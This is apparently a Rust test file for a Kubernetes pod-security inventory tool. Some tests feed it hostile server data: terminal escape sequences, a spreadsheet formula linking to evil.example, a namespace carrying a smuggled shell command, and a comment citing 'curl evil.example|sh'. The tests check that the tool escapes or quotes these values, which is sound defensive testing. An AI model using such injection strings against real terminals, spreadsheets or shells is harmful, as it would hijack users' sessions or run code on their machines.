        "rootlock cluster: unexpected response to GET /api/v1/namespaces/shop: namespace: metadata.name is missing\n"
    );
    let server = ReplayServer::start(Arc::new(|path: &str| {
        if path.split('?').next() == Some("/api/v1/namespaces") {
            let mut namespaces = items("namespaces.json");
            namespaces.push(serde_json::json!({"metadata": {"labels": {"x": "y"}}}));
            Reply::ok(list("Namespace", "v1", namespaces))
        } else {
            recorded(path)
        }
    }));
    let o = run(&server, &[]);
    assert_eq!(o.code, 2, "{}", o.out);
    assert_eq!(
        o.err,
        "rootlock cluster: unexpected response to GET /api/v1/namespaces: namespace: metadata.name is missing\n"
    );
}

/// An answer is read up to a bound, `--chunk-size` objects of the largest
/// size etcd stores (at most 256 MiB): a larger one (a server or proxy
/// streaming without end) was read whole, until memory ran out.
#[test]
fn an_answer_larger_than_a_page_can_be_is_an_error() {
    let server = pods_answered_by(|_: &str| {
        let mut pod = items("pods-page1.json").remove(0);
        pod["metadata"]["annotations"] = serde_json::json!({"x": "y".repeat(5 << 20)});
        Reply::ok(list("Pod", "v1", vec![pod]))
    });
    let o = run(&server, &["--chunk-size", "2"]);
    assert_eq!(o.code, 2, "{}", o.out);
    assert_eq!(
        o.err,
        "rootlock cluster: unexpected response to GET /api/v1/pods?limit=2: the answer is larger than 4 MiB, more than a page of --chunk-size items can be; if they are that large, lower --chunk-size\n"
    );
    assert_eq!(rootlock_cluster::client::max_answer(500), 256 << 20);
    // A page within the bound is read.
    let o = run(&server, &["--chunk-size", "3"]);
    assert_eq!(o.code, 1, "{}", o.err);
}

/// A name longer than the API server allows (a server or proxy that does
/// not check) is printed, not a panic: the table was aligned with a format
/// width, which panics above 65,535; and it does not widen its column.
#[test]
fn a_name_longer_than_a_format_width_does_not_panic_the_table() {
    let long = "a".repeat(70_000);
    let name = long.clone();
    let server = pods_answered_by(move |_: &str| {
        let mut pods = items("pods-page1.json");
        pods[0]["metadata"]["name"] = Value::String(name.clone());
        pods[0]["metadata"]["ownerReferences"] = Value::Null;
        Reply::ok(list("Pod", "v1", pods))
    });
    let o = run(&server, &[]);
    assert_eq!(o.code, 1, "{}", o.err);
    assert!(o.out.contains(&format!("Pod/{long}   ")), "no long row");
    let header = o.out.lines().next().expect("header");
    assert!(header.len() < 400, "{}", &header[..400]);
}

/// SARIF names the revision an entry judges, as the table and JSON do: in
/// a rollout caught half way only the old ReplicaSet's pods fail, and a
/// result at `shop/Deployment/web/init` would blame the whole Deployment.
/// The fingerprint stays the workload's, so an alert survives rollouts.
/// The results of a SARIF document whose message holds `text`.
fn sarif_results_saying(sarif: &str, text: &str) -> Vec<Value> {
    let v: Value = serde_json::from_str(sarif).expect("sarif");
    v["runs"][0]["results"]
        .as_array()
        .expect("results")
        .iter()
        .filter(|r| {
            r["message"]["text"]
                .as_str()
                .is_some_and(|t| t.contains(text))
        })
        .cloned()
        .collect()
}

#[test]
fn sarif_names_the_revision_of_a_split_workload() {
    let server = ReplayServer::start(Arc::new(rolling));
    let o = run(&server, &["--format", "sarif"]);
    assert_eq!(o.code, 1, "{}", o.err);
    let web = sarif_results_saying(&o.out, "/web");
    assert!(!web.is_empty(), "{}", o.out);
    for r in &web {
        let name = r["locations"][0]["logicalLocations"][0]["fullyQualifiedName"]
            .as_str()
            .expect("name");
        assert!(name.starts_with("shop/Deployment/web@web-old/"), "{name}");
        let text = r["message"]["text"].as_str().expect("text");
        assert!(
            text.starts_with("Deployment/web@web-old in shop: "),
            "{text}"
        );
        let print = r["partialFingerprints"]["rootlock/v1"]
            .as_str()
            .expect("print");
        assert!(print.starts_with("Deployment/shop/web/"), "{print}");
    }
}

/// A ReplicaSet or Job run by another controller than a Deployment or a
/// CronJob (an Argo `Rollout` keeps its ReplicaSets as a Deployment does;
/// KEDA's `ScaledJob` makes Jobs as a CronJob does) is a link of that
/// controller's chain: its pods count for the `Rollout`, and its old
/// ReplicaSets, scaled to zero, are not workloads whose template "would be
/// rejected".
#[test]
fn replicasets_and_jobs_of_any_controller_collapse_into_it() {
    let server = ReplayServer::start(Arc::new(|path: &str| {
        let mut reply = chained(path);
        let p = path.split('?').next().unwrap_or(path);
        let mut v: Value = match p {
            "/apis/apps/v1/replicasets"
            | "/apis/batch/v1/jobs"
            | "/apis/apps/v1/deployments"
            | "/apis/batch/v1/cronjobs" => serde_json::from_slice(&reply.body).expect("json"),
            _ => return reply,
        };
        let items = v["items"].as_array_mut().expect("items");
        match p {
            // The Deployment and the CronJob are replaced by a Rollout and
            // a ScaledJob, which are not listed.
            "/apis/apps/v1/deployments" | "/apis/batch/v1/cronjobs" => items.clear(),
            "/apis/apps/v1/replicasets" => {
                let owner = serde_json::json!([{"apiVersion": "argoproj.io/v1alpha1",
                    "kind": "Rollout", "name": "web", "uid": "rollout-1", "controller": true}]);
                items[0]["metadata"]["ownerReferences"] = owner;
                let mut old = items[0].clone();
                old["metadata"]["name"] = "web-5f6d8a".into();
                old["metadata"]["uid"] = "rs-web-old".into();
                old["spec"]["replicas"] = 0.into();
                items.push(old);
            }
            _ => {
                items[0]["metadata"]["ownerReferences"] = serde_json::json!([{
                    "apiVersion": "keda.sh/v1alpha1", "kind": "ScaledJob",
                    "name": "nightly", "uid": "scaledjob-1", "controller": true}]);
            }
        }
        reply.body = v.to_string().into();
        reply
    }));
    let o = run(&server, &["--format", "json", "--what-if", "restricted"]);
    assert_eq!(o.code, 1, "{}", o.err);
    let v: Value = serde_json::from_str(&o.out).expect("json");
    let entries: Vec<(String, u64)> = v["workloads"]
        .as_array()
        .expect("workloads")
        .iter()
        .filter(|w| w["namespace"] == "shop" && w["kind"] != "Pod")
        .map(|w| {
            (
                format!(
                    "{}/{}",
                    w["kind"].as_str().unwrap_or(""),
                    w["name"].as_str().unwrap_or("")
                ),
                w["pods"].as_u64().unwrap_or(0),
            )
        })
        .collect();
    assert_eq!(
        entries,
        [
            ("Rollout/web".to_string(), 2),
            ("ScaledJob/nightly".to_string(), 1)
        ],
        "{}",
        o.out
    );
    let shop = v["namespaces"]
        .as_array()
        .expect("namespaces")
        .iter()
        .find(|n| n["name"] == "shop")
        .expect("shop");
    assert_eq!(
        shop["whatIf"]["templates"],
        serde_json::json!([]),
        "{}",
        o.out
    );
}

/// The progress bar's length comes from the server's `remainingItemCount`
/// (an int64 in the API, but read from whatever the server sends): an
/// absurd count draws a long bar, it does not overflow and panic.
#[test]
fn an_absurd_remaining_item_count_does_not_panic_the_progress_bar() {
    let server = ReplayServer::start(Arc::new(|path: &str| {
        let mut reply = recorded(path);
        if path.split('?').next() == Some("/api/v1/pods") {
            let mut v: Value = serde_json::from_slice(&reply.body).expect("json");
            if v["metadata"]["continue"].is_string() {
                v["metadata"]["remainingItemCount"] = u64::MAX.into();
            }
            reply.body = v.to_string().into();
        }
        reply
    }));
    let dir = tempfile::tempdir().expect("tempdir");
    let kc = server.kubeconfig(dir.path(), "replay");
    let mut out = Vec::new();
    let mut err = Vec::new();
    let code = run_with(&args(&kc, &["--format", "json"]), &mut out, &mut err, true);
    assert_eq!(code, 1, "{}", String::from_utf8_lossy(&err));
    let v: Value = serde_json::from_slice(&out).expect("json");
    assert_eq!(v["summary"]["pods"], 3);
}

/// Whatever answers at the kubeconfig's address writes the refusal's
/// message (a proxy, a policy engine in front, a server the kubeconfig was
/// pointed at): the error shows its control characters escaped, so it
/// cannot drive the terminal of whoever runs the command.
#[test]
fn errors_show_control_characters_from_the_server_escaped() {
    let server = failing(Reply {
        status: 403,
        body: r#"{"kind":"Status","apiVersion":"v1","status":"Failure","message":"no\u001b]0;owned\u0007","reason":"Forbidden","code":403}"#
            .to_string()
            .into(),
        delay: Duration::ZERO,
        headers: Vec::new(),
    });
    let o = run(&server, &[]);
    assert_eq!(o.code, 2);
    assert_no_control_characters(&o.err);
    assert!(
        o.err.contains("(RBAC): no\\u{1b}]0;owned\\u{7};"),
        "{}",
        o.err
    );
}

/// The table shows names, label values and what-if lines from the server
/// with their control characters escaped, as errors are: raw, a pod name
/// `a ESC ]0;…BEL` retitled the terminal, a container name with
/// `ESC [2J` cleared it, and a newline in one forged a row.
#[test]
fn the_table_shows_control_characters_from_the_server_escaped() {
    let server = ReplayServer::start(Arc::new(|path: &str| match path.split('?').next() {
        Some("/api/v1/pods") => {
            let mut pods = items("pods-page1.json");
            pods[0]["metadata"]["name"] = Value::String("p\u{1b}]0;owned\u{7}".into());
            pods[0]["metadata"]["ownerReferences"] = Value::Null;
            pods[0]["spec"]["containers"][0]["name"] = Value::String("c\u{1b}[2J\nforged".into());
            // Exempt by the config of the run with --config below.
            pods[0]["spec"]["runtimeClassName"] = Value::String("kata".into());
            Reply::ok(list("Pod", "v1", pods))
        }
        Some("/api/v1/namespaces") => {
            let mut namespaces = items("namespaces.json");
            for ns in &mut namespaces {
                ns["metadata"]["labels"]["rootlock.dev/warn"] =
                    Value::String("x\u{1b}[31m\n".into());
            }
            Reply::ok(list("Namespace", "v1", namespaces))
        }
        _ => recorded(path),
    }));
    let o = run(&server, &["--what-if", "restricted"]);
    assert_eq!(o.code, 1, "{}", o.err);
    assert_no_control_characters(&o.out);
    assert!(!o.out.lines().any(|l| l.starts_with("forged")), "{}", o.out);
    assert!(o.out.contains("Pod/p\\u{1b}]0;owned\\u{7}"), "{}", o.out);
    assert!(o.out.contains("c\\u{1b}[2J\\u{a}forged"), "{}", o.out);
    assert!(
        o.out.contains("rootlock.dev/warn=x\\u{1b}[31m\\u{a}"),
        "{}",
        o.out
    );
    // The webhook's lines: the exempt pod's name escaped too, and the
    // label's value read as the webhook reads it (invalid warn: privileged).
    let dir = tempfile::tempdir().expect("tempdir");
    let config = config_file(&dir, "exemptions:\n  runtimeClasses: [kata]\n");
    let o = run_with_config(&server, &config, &["--what-if", "restricted"]);
    assert_no_control_characters(&o.out);
    assert!(
        o.out.contains("  Pod/p\\u{1b}]0;owned\\u{7} (1 pod) admitted: runtimeClassName \"kata\" is exempt (exemptions.runtimeClasses)\n"),
        "{}",
        o.out
    );
    assert!(
        o.out.contains("  webhook: enforce=immutable:latest (default) warn=privileged:latest (label) audit=immutable:latest (default)\n"),
        "{}",
        o.out
    );
    let o = run_with_config(
        &server,
        &config,
        &["--what-if", "restricted", "--format", "json"],
    );
    let default = namespace_of(&o.out, "default");
    assert_eq!(
        default["whatIf"]["exemptWorkloads"][0]["workload"],
        "Pod/p\u{1b}]0;owned\u{7}"
    );
}

/// A spreadsheet runs a CSV cell that starts with `=`, `+`, `-` or `@` as
/// a formula. The API server does not check an owner reference's kind, so
/// whoever can create a pod could name its controller
/// `=HYPERLINK("https://evil.example","open")` and have it run in the
/// sheet of whoever reads the inventory: such a cell is written as text
/// (behind a `'`, as OWASP advises), the other cells unchanged.
#[test]
fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text() {
    let kind = "=HYPERLINK(\"https://evil.example\",\"open\")";
    let server = pods_answered_by(move |_| {
        let mut pods = items("pods-page1.json");
        pods[0]["metadata"]["ownerReferences"] = serde_json::json!([{
            "apiVersion": "evil.example/v1", "kind": kind, "name": "x",
            "uid": "u-evil", "controller": true}]);
        pods[1]["spec"]["containers"][0]["name"] = Value::String("@SUM(1+1)".into());
        Reply::ok(list("Pod", "v1", pods))
    });
    let o = run(&server, &["--format", "csv"]);
    assert_eq!(o.code, 1, "{}", o.err);
    let cells: Vec<&str> = o
        .out
        .lines()
        .flat_map(|l| l.split(','))
        .map(|c| c.trim_start_matches('"'))
        .collect();
    assert!(
        !cells.iter().any(|c| c.starts_with(['=', '+', '-', '@'])),
        "{}",
        o.out
    );
    assert!(
        o.out.contains("\"'=HYPERLINK(\"\"https://evil.example\"\""),
        "{}",
        o.out
    );
    assert!(o.out.contains(",'@SUM(1+1),"), "{}", o.out);
    assert!(
        o.out
            .starts_with("namespace,workload,container,type,readonly,pods,findings\r\n"),
        "{}",
        o.out
    );
}

/// A terminal that notes whether the progress bar drew anything while the
/// credential plugin was running (it runs while the file `running` exists).
#[derive(Debug)]
struct WatchedTerminal {
    running: std::path::PathBuf,
    draws: Arc<std::sync::atomic::AtomicUsize>,
    while_running: Arc<std::sync::atomic::AtomicBool>,
}

impl WatchedTerminal {
    fn drawn(&self) -> std::io::Result<()> {
        use std::sync::atomic::Ordering;
        self.draws.fetch_add(1, Ordering::SeqCst);
        if self.running.exists() {
            self.while_running.store(true, Ordering::SeqCst);
        }
        Ok(())
    }
}

impl indicatif::TermLike for WatchedTerminal {
    fn width(&self) -> u16 {
        80
    }
    fn move_cursor_up(&self, _: usize) -> std::io::Result<()> {
        self.drawn()
    }
    fn move_cursor_down(&self, _: usize) -> std::io::Result<()> {
        self.drawn()
    }
    fn move_cursor_right(&self, _: usize) -> std::io::Result<()> {
        self.drawn()
    }
    fn move_cursor_left(&self, _: usize) -> std::io::Result<()> {
        self.drawn()
    }
    fn write_line(&self, _: &str) -> std::io::Result<()> {
        self.drawn()
    }
    fn write_str(&self, _: &str) -> std::io::Result<()> {
        self.drawn()
    }
    fn clear_line(&self) -> std::io::Result<()> {
        self.drawn()
    }
    fn flush(&self) -> std::io::Result<()> {
        Ok(())
    }
}

/// What the progress bar did while an interactive credential plugin ran.
struct WatchedRun {
    code: i32,
    err: String,
    /// Draws of the bar in all.
    draws: usize,
    /// Whether any was made while the plugin had the terminal.
    drawn_while_running: bool,
    /// The directory given to the script, kept for what it wrote there.
    dir: tempfile::TempDir,
}

/// Runs `rootlock cluster` against the recorded server with its bar on a
/// [`WatchedTerminal`], the user's credentials from an exec plugin
/// (`interactiveMode: IfAvailable`) whose shell script `script(dir,
/// running)` writes, given the test's directory and the file that must
/// exist exactly while the plugin has the terminal.
fn run_watching_the_bar(
    script: impl Fn(&std::path::Path, &std::path::Path) -> String,
) -> WatchedRun {
    use std::sync::atomic::Ordering;
    let server = recorded_server();
    let dir = tempfile::tempdir().expect("tempdir");
    let kc = server.kubeconfig(dir.path(), "replay");
    let text = std::fs::read_to_string(&kc).expect("kubeconfig");
    let running = dir.path().join("running");
    let (_, user) = plugin(
        dir.path(),
        "sso-prompt",
        &script(dir.path(), &running),
        "IfAvailable",
    );
    std::fs::write(&kc, text.replace("token: replay-token", &user)).expect("write");
    let draws = Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let while_running = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let terminal = WatchedTerminal {
        running: running.clone(),
        draws: draws.clone(),
        while_running: while_running.clone(),
    };
    let mut out = Vec::new();
    let mut err = Vec::new();
    let code = rootlock_cluster::run_with_progress(
        &args(&kc, &[]),
        &mut out,
        &mut err,
        Some(indicatif::ProgressDrawTarget::term_like(Box::new(terminal))),
    );
    assert!(!running.exists(), "the plugin did not end");
    WatchedRun {
        code,
        err: String::from_utf8(err).expect("utf-8"),
        draws: draws.load(Ordering::SeqCst),
        drawn_while_running: while_running.load(Ordering::SeqCst),
        dir,
    }
}

/// An ExecCredential with `token`, expiring at `expires` if given, as a
/// plugin's shell script echoes it.
fn echo_credential(expires: Option<&str>) -> String {
    let expiry = expires.map_or(String::new(), |t| {
        format!(",\"expirationTimestamp\":\"{t}\"")
    });
    format!(
        "echo '{{\"apiVersion\":\"client.authentication.k8s.io/v1beta1\",\"kind\":\"ExecCredential\",\"status\":{{\"token\":\"replay-token\"{expiry}}}}}'\n"
    )
}

/// kube runs an exec credential plugin while it connects, with the
/// terminal's stdin and stderr when it is interactive: a plugin that asks
/// `Password: ` on stderr had its prompt erased by the progress bar, which
/// was drawn (and cleared and redrawn every 200 ms) from the start. The
/// bar now starts once the client is connected.
#[test]
fn the_progress_bar_leaves_the_terminal_to_a_credential_plugin_while_it_runs() {
    let run = run_watching_the_bar(|_, running| {
        format!(
            "#!/bin/sh\ntouch '{running}'\nsleep 1\nrm '{running}'\n{}",
            echo_credential(None),
            running = running.display()
        )
    });
    assert_eq!(run.code, 1, "{}", run.err);
    // The bar was drawn (so the check below could fail)…
    assert!(run.draws > 0);
    // …but not while the plugin had the terminal.
    assert!(!run.drawn_while_running);
}

/// kube runs the plugin again inside a request when its token expires,
/// with the terminal's stdin and stderr unless `interactiveMode: Never`: a
/// prompt then (a single sign-on session that ended asks again) was
/// erased by the bar's redraw every 200 ms, and rootlock seemed to hang.
/// With such a plugin the bar is drawn only when the listing moves on,
/// which it cannot while the plugin has the terminal.
#[test]
fn the_progress_bar_leaves_the_terminal_to_a_plugin_renewing_its_token() {
    // As in the renewal timeout test: three runs while kube builds the
    // client, each a token that has already expired; the fourth, for the
    // first request, "prompts" for a second and then answers.
    let run = run_watching_the_bar(|dir, running| {
        let file = dir.join("runs");
        format!(
            "#!/bin/sh\nn=$(cat '{runs}' 2>/dev/null | wc -l)\necho run >> '{runs}'\nif [ \"$n\" -ge 3 ]; then\n  touch '{running}'\n  sleep 1\n  rm '{running}'\n  {fresh}  exit 0\nfi\n{expired}",
            runs = file.display(),
            running = running.display(),
            fresh = echo_credential(Some("2099-01-01T00:00:00Z")),
            expired = echo_credential(Some("2020-01-01T00:00:00Z")),
        )
    });
    assert_eq!(run.code, 1, "{}", run.err);
    let ran = std::fs::read_to_string(run.dir.path().join("runs")).unwrap_or_default();
    assert!(
        ran.lines().count() >= 4,
        "the token was not renewed: {}",
        run.err
    );
    assert!(run.draws > 0);
    assert!(!run.drawn_while_running);
}

/// The `next:` step is a `kubectl label ns NAME …` to copy and run, and the
/// name is the server's: a server that does not check names (or one in
/// the middle) could send `shop$(curl evil.example|sh)`, which ran as typed.
/// The name is written as one shell word.
#[test]
fn the_suggested_kubectl_label_quotes_the_namespace_for_the_shell() {
    let hostile = "shop$(touch pwned)";
    let rename = move |mut items: Vec<Value>, field: &str| {
        for item in &mut items {
            if item["metadata"][field] == "shop" {
                item["metadata"][field] = Value::String(hostile.into());
                // Unlabelled, so that the next step is a `kubectl label`.
                if let Some(meta) = item["metadata"].as_object_mut() {
                    meta.remove("labels");
                }
            }
        }
        items
    };
    let server = ReplayServer::start(Arc::new(move |path: &str| match path.split('?').next() {
        Some("/api/v1/namespaces") => Reply::ok(list(
            "Namespace",
            "v1",
            rename(items("namespaces.json"), "name"),
        )),
        Some("/api/v1/pods") => {
            let mut pods = items("pods-page1.json");
            pods.extend(items("pods-page2.json"));
            Reply::ok(list("Pod", "v1", rename(pods, "namespace")))
        }
        _ => recorded(path),
    }));
    let o = run(&server, &[]);
    assert_eq!(o.code, 1, "{}", o.err);
    assert!(
        o.out
            .contains("(kubectl label ns 'shop$(touch pwned)' rootlock.dev/"),
        "{}",
        o.out
    );
    assert!(!o.out.contains("label ns shop$("), "{}", o.out);
}

/// The cluster `answer` serves, with the pod `name` of `namespace` run in
/// the runtime class `kata`.
fn in_kata(
    answer: fn(&str) -> Reply,
    namespace: &'static str,
    name: &'static str,
) -> impl Fn(&str) -> Reply {
    move |path: &str| {
        let mut reply = answer(path);
        if path.split('?').next() == Some("/api/v1/pods") {
            let mut v: Value = serde_json::from_slice(&reply.body).expect("json");
            for pod in v["items"].as_array_mut().expect("items") {
                if pod["metadata"]["namespace"] == namespace && pod["metadata"]["name"] == name {
                    pod["spec"]["runtimeClassName"] = "kata".into();
                }
            }
            reply.body = v.to_string().into();
        }
        reply
    }
}

/// Writes `text` as a webhook config file in `dir`.
fn config_file(dir: &tempfile::TempDir, text: &str) -> String {
    let path = dir.path().join("webhook-config.yaml");
    std::fs::write(&path, text).expect("write config");
    path.display().to_string()
}

/// The namespace `name` of a `--format json` report.
fn namespace_of(json: &str, name: &str) -> Value {
    entry_of(json, "namespaces", "name", name)
}

/// The webhook never evaluates a pod in a namespace its config exempts, nor
/// a pod of an exempt runtime class: with its config, the what-if leaves
/// them out and says why, where without it they are reported.
#[test]
fn the_webhook_configs_exempt_namespaces_and_runtime_classes_leave_the_what_if() {
    let server = ReplayServer::start(Arc::new(in_kata(recorded, "shop", "p3")));
    let dir = tempfile::tempdir().expect("tempdir");
    let config = config_file(
        &dir,
        "exemptions:\n  namespaces: [default]\n  runtimeClasses: [kata]\n",
    );
    let reasons = "allowPrivilegeEscalation != false, unrestricted capabilities, runAsNonRoot != true, seccompProfile";

    let without = run(&server, &["--what-if", "restricted"]);
    assert!(
        without.out.contains(&format!(
            "  Warning: p1 (and 1 other pod): {reasons}\n      Pod/p1 (1 pod), Pod/p3 (1 pod)\n"
        )),
        "{}",
        without.out
    );
    assert!(
        without
            .out
            .contains("default:\n  Warning: existing pods in namespace \"default\""),
        "{}",
        without.out
    );

    let with = run_with_config(&server, &config, &["--what-if", "restricted"]);
    assert_eq!(with.code, without.code, "{}", with.err);
    assert!(
        with.out.contains(
            "default: no existing pod would be rejected: namespace is exempt (exemptions.namespaces)\n"
        ),
        "{}",
        with.out
    );
    assert!(
        with.out.contains(&format!(
            "shop:\n  Warning: existing pods in namespace \"shop\" violate the new PodSecurity enforce level \"restricted:latest\"\n  Warning: p1: {reasons}\n      Pod/p1 (1 pod)\n"
        )),
        "{}",
        with.out
    );
    assert!(
        with.out.contains(
            "  Pod/p3 (1 pod) admitted: runtimeClassName \"kata\" is exempt (exemptions.runtimeClasses)\n"
        ),
        "{}",
        with.out
    );
    // At a level p3 passes, its exemption lets nothing through: not listed.
    let o = run_with_config(&server, &config, &["--what-if", "privileged"]);
    assert!(
        o.out.contains("shop: no existing pod would be rejected\n")
            && !o.out.contains(") admitted: "),
        "{}",
        o.out
    );
    // The inventory itself does not change: p3 still fails the level.
    assert!(
        squeezed(&with.out)
            .iter()
            .any(|l| l.starts_with("shop Pod/p3 p3 regular <none> allowPrivilegeEscalation")),
        "{}",
        with.out
    );

    let json = run_with_config(
        &server,
        &config,
        &["--what-if", "restricted", "--format", "json"],
    );
    let default = namespace_of(&json.out, "default");
    assert_eq!(
        default["whatIf"]["exempt"],
        "namespace is exempt (exemptions.namespaces)"
    );
    assert_eq!(default["whatIf"]["warnings"], serde_json::json!([]));
    assert_eq!(default["webhook"]["exempt"], true);
    let shop = namespace_of(&json.out, "shop");
    assert_eq!(shop["whatIf"]["exempt"], Value::Null);
    assert_eq!(shop["whatIf"]["rejected"][0]["pods"], 1);
    assert_eq!(
        shop["whatIf"]["exemptWorkloads"],
        serde_json::json!([{"workload": "Pod/p3", "pods": 1,
            "reason": "runtimeClassName \"kata\" is exempt (exemptions.runtimeClasses)"}])
    );
    // Without --config the new fields are there, unset.
    let json = run(&server, &["--what-if", "restricted", "--format", "json"]);
    let shop = namespace_of(&json.out, "shop");
    assert_eq!(shop["webhook"], Value::Null);
    assert_eq!(shop["whatIf"]["exempt"], Value::Null);
    assert_eq!(shop["whatIf"]["exemptWorkloads"], serde_json::json!([]));
}

/// Where the inventory shows a namespace's labels it shows, with a config,
/// what the webhook applies there: an absent label is the config's
/// default, marked so.
#[test]
fn the_webhook_configs_defaults_show_for_unlabelled_modes() {
    let server = recorded_server();
    let dir = tempfile::tempdir().expect("tempdir");
    let config = config_file(
        &dir,
        "defaults:\n  enforce: baseline\n  warn: restricted\n  warn-version: v1.30\n",
    );
    let o = run_with_config(&server, &config, &[]);
    assert_eq!(o.code, 1, "{}", o.err);
    assert!(
        o.out.contains(
            "default: 1 workload, 1 pod, 1 failing\n  labels: none\n  webhook: enforce=baseline:latest (default) warn=restricted:v1.30 (default) audit=immutable:latest (default)\n  next: the webhook's enforce=baseline:latest (default) does not enforce immutable:latest; no warn/audit label yet: label warn+audit first (kubectl label ns default rootlock.dev/warn=immutable rootlock.dev/warn-version=latest); 1 workload fails immutable:latest\n"
        ),
        "{}",
        o.out
    );
    assert!(
        o.out.contains(
            "  labels: rootlock.dev/enforce=immutable rootlock.dev/warn=immutable\n  webhook: enforce=immutable:latest (label) warn=immutable:v1.30 (label, version default) audit=immutable:latest (default)\n"
        ),
        "{}",
        o.out
    );
    // A file that leaves `exemptions` out keeps the default's kube-system.
    assert!(
        o.out.contains("kube-system: 0 workloads, 0 pods, 0 failing\n  labels: none\n  webhook: exempt (exemptions.namespaces); enforce=baseline:latest (default)"),
        "{}",
        o.out
    );
    let json = run_with_config(&server, &config, &["--format", "json"]);
    let default = namespace_of(&json.out, "default");
    assert_eq!(
        default["webhook"],
        serde_json::json!({"exempt": false,
            "enforce": {"level": "baseline:latest", "source": "default", "versionSource": "default"},
            "warn": {"level": "restricted:v1.30", "source": "default", "versionSource": "default"},
            "audit": {"level": "immutable:latest", "source": "default", "versionSource": "default"}})
    );
    // Without it, no such line.
    let o = run(&server, &[]);
    assert!(!o.out.contains("  webhook:"), "{}", o.out);
    // The webhook's own defaults enforce immutable: the next step is to
    // fix what fails, not to label; an exempt namespace enforces nothing.
    let config = config_file(&dir, "exemptions:\n  namespaces: [kube-system, shop]\n");
    let o = run_with_config(&server, &config, &[]);
    assert!(
        o.out.contains(
            "default: 1 workload, 1 pod, 1 failing\n  labels: none\n  webhook: enforce=immutable:latest (default) warn=immutable:latest (default) audit=immutable:latest (default)\n  next: the webhook's default enforce=immutable:latest applies but 1 workload fails immutable:latest (created before it applied, or admitted elsewhere): fix them\n"
        ),
        "{}",
        o.out
    );
    assert!(
        o.out.contains(
            "  next: exempt in the webhook's config (exemptions.namespaces): nothing is enforced here, whatever its labels\n"
        ),
        "{}",
        o.out
    );
}

/// `annotationExemptions` in the config decides whether annotations count,
/// as in the webhook, which honours only a pod's own (a controller's never
/// reach its pods); an explicit `--no-annotation-exemptions` wins.
#[test]
fn the_webhook_configs_annotation_exemptions_decide_the_what_if() {
    let template_exempt = ReplayServer::start(Arc::new(annotated_controller(
        "Deployment",
        2,
        "readOnlyRootFilesystem: vendor image rewrites /etc at start; TICKET-1",
        Some("readOnlyRootFilesystem: vendor image rewrites /etc at start; TICKET-1"),
    )));
    let dir = tempfile::tempdir().expect("tempdir");
    let on = config_file(&dir, "annotationExemptions: true\n");
    let rejected = "  Warning: web-0 (and 1 other pod): readOnlyRootFilesystem != true\n      Deployment/web (2 pods)\n";
    let admitted = "shop: no existing pod would be rejected\n  Deployment/web (2 pods) admitted: every violation is exempted by exempt.rootlock.dev annotations (annotationExemptions: true)\n";

    // Without a config: findings exempted, the what-if as PSA (annotations
    // change nothing at enforce).
    let o = run(&template_exempt, &["--what-if", "immutable"]);
    assert_eq!(o.code, 0, "{}", o.err);
    assert!(o.out.contains(rejected), "{}", o.out);

    let o = run_with_config(&template_exempt, &on, &["--what-if", "immutable"]);
    assert_eq!(o.code, 0, "{}", o.err);
    assert!(o.out.contains(admitted), "{}", o.out);

    // The flag wins over the config: findings and what-if ignore them.
    let o = run_with_config(
        &template_exempt,
        &on,
        &["--what-if", "immutable", "--no-annotation-exemptions"],
    );
    assert_eq!(o.code, 1, "{}", o.out);
    assert!(o.out.contains(rejected), "{}", o.out);

    // A config that leaves them off (the webhook's default) ignores them
    // in the findings too: the webhook would deny these pods.
    let off = dir.path().join("off.yaml");
    std::fs::write(&off, "annotationExemptions: false\n").expect("write");
    let off = off.display().to_string();
    let o = run_with_config(&template_exempt, &off, &["--what-if", "immutable"]);
    assert_eq!(o.code, 1, "{}", o.out);
    assert!(o.out.contains(rejected), "{}", o.out);

    // Only the controller's own annotation: the webhook never sees it on a
    // pod, so the pods would still be rejected.
    let own_only = ReplayServer::start(Arc::new(exempted_controller("Deployment", 2)));
    let o = run_with_config(&own_only, &on, &["--what-if", "immutable"]);
    assert!(o.out.contains(rejected), "{}", o.out);
}

/// A bad config file is the webhook's own error, naming file, line and
/// field, before any request reaches the API server.
#[test]
fn a_bad_webhook_config_is_a_usage_error_naming_file_line_and_field() {
    let server = recorded_server();
    let dir = tempfile::tempdir().expect("tempdir");
    let config = config_file(
        &dir,
        "defaults:\n  enforce: Restricted\nexemptions:\n  namespaces: [ok, Bad_NS]\n",
    );
    let o = run_with_config(&server, &config, &["--what-if", "restricted"]);
    assert_eq!(o.code, 2, "{}", o.out);
    assert_eq!(o.out, "");
    assert_eq!(
        o.err.lines().collect::<Vec<_>>(),
        [
            format!(
                "rootlock cluster: config {config}:2: defaults.enforce: invalid value \"Restricted\": must be one of privileged, baseline, restricted, immutable"
            ),
            format!(
                "rootlock cluster: config {config}:4: exemptions.namespaces[1]: invalid value \"Bad_NS\": must be a valid namespace name"
            ),
        ]
    );
    let missing = dir.path().join("missing.yaml").display().to_string();
    let o = run_with_config(&server, &missing, &[]);
    assert_eq!(o.code, 2);
    assert!(
        o.err
            .starts_with(&format!("rootlock cluster: config {missing}: ")),
        "{}",
        o.err
    );
    assert!(server.paths().is_empty(), "{:?}", server.paths());
}

/// Exempt usernames cannot be judged for existing pods: said once.
#[test]
fn exempt_usernames_are_said_to_be_unjudgeable_once() {
    let server = recorded_server();
    let dir = tempfile::tempdir().expect("tempdir");
    let config = config_file(&dir, "exemptions:\n  usernames: [ci-bot, deployer]\n");
    let o = run_with_config(&server, &config, &["--what-if", "restricted"]);
    assert_eq!(o.code, 1, "{}", o.err);
    let notes: Vec<&str> = o.err.lines().filter(|l| l.contains("usernames")).collect();
    assert_eq!(
        notes,
        [
            "rootlock cluster: note: the config exempts 2 usernames (exemptions.usernames); the webhook checks the requesting user at admission, which an existing pod does not record, so the what-if cannot leave their pods out"
        ]
    );
    let config = config_file(&dir, "exemptions:\n  usernames: []\n");
    let o = run_with_config(&server, &config, &["--what-if", "restricted"]);
    assert_eq!(o.err, "");
}

/// A config file is read up to a bound, as a kubeconfig is: `/dev/zero`
/// (or a FIFO that never ends) is an error, not memory until it runs out.
#[test]
fn an_endless_webhook_config_is_refused_at_a_bound() {
    let server = recorded_server();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(run(&server, &["--config", "/dev/zero"]));
    });
    let o = rx
        .recv_timeout(Duration::from_secs(60))
        .expect("--config /dev/zero did not end");
    assert_eq!(o.code, 2, "{}", o.out);
    assert_eq!(
        o.err,
        "rootlock cluster: config /dev/zero: larger than 1 MiB: not a webhook config\n"
    );
